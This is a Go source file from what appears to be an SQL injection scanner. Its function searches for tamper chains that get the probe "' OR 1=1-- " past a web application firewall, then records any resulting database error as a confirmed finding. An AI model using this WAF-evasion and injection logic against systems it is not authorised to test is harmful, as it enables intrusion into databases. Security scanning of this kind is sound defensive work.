package detect

import (
	"context"

	"go.uber.org/zap"

	"github.com/0xf61/sqlhound/api/schemas"
	"github.com/0xf61/sqlhound/internal/payload"
	"github.com/0xf61/sqlhound/internal/tamper"
)

// deepEvade runs the budgeted chain optimizer against one parameter after
// every error probe came back blocked. The objective sends a canonical
// breakout probe under a candidate chain: a block scores positive, a
// database error negative, anything else zero. A negative best score
// means some chain slipped past the WAF and provoked the database, which
// is a confirmed error-based finding under that chain.
func (d *Detector) deepEvade(ctx context.Context, point *schemas.InjectionPoint, base *Baseline, rc schemas.ReflectionContext, dialect schemas.Dialect) (bool, schemas.Dialect, error) {
	probe := "' OR 1=1-- "

	var lastDialect schemas.Dialect
	var lastPattern string
	objective := func(ctx context.Context, chain schemas.TamperChain) float64 {
		resp, blocked, err := d.probe(ctx, point, probe, chain)
		if err != nil || resp == nil || resp.TransportErr != nil {
			return 0
		}
		if blocked {
			return 1
		}
		if inferred, pattern, ok := payload.MatchError(resp.Body); ok {
			lastDialect, lastPattern = inferred, pattern
			return -1
		}
		return 0
	}

	opt, err := tamper.NewOptimizer(objective,
		d.cfg.Tamper.MaxChainLength,
		d.cfg.Tamper.WarmupPoints,
		d.cfg.Tamper.OptimizerCalls,
		d.logger.Named("optimizer"))
	if err != nil {
		return false, schemas.DialectUnknown, nil
	}

	best, score, err := opt.Optimize(ctx)
	if err != nil {
		return false, schemas.DialectUnknown, err
	}
	if score >= 0 {
		d.logger.Debug("chain optimization found no bypass",
			zap.Float64("best_score", score))
		return false, schemas.DialectUnknown, nil
	}

	d.logger.Info("optimizer found a bypassing tamper chain",
		zap.Strings("chain", best), zap.Float64("score", score))

	// The search overwrote lastDialect/lastPattern on every negative
	// evaluation, not just the incumbent's. Replay the winning chain once
	// so the recorded evidence belongs to it.
	if resp, blocked, rerr := d.probe(ctx, point, probe, best); rerr == nil && !blocked && resp.TransportErr == nil {
		if inferred, pattern, ok := payload.MatchError(resp.Body); ok {
			lastDialect, lastPattern = inferred, pattern
		}
	}

	p := schemas.Payload{
		Technique: schemas.TechniqueErrorBased,
		Dialect:   lastDialect,
		Context:   rc,
		Body:      probe,
		Family:    "TAUTOLOGY_OR_COMMENT",
	}
	d.record(point, "SQL Injection (Error-Based)", p, best, lastDialect, nil, map[string]any{
		"matched_pattern": lastPattern,
		"optimized":       true,
	})
	return true, lastDialect, nil
}
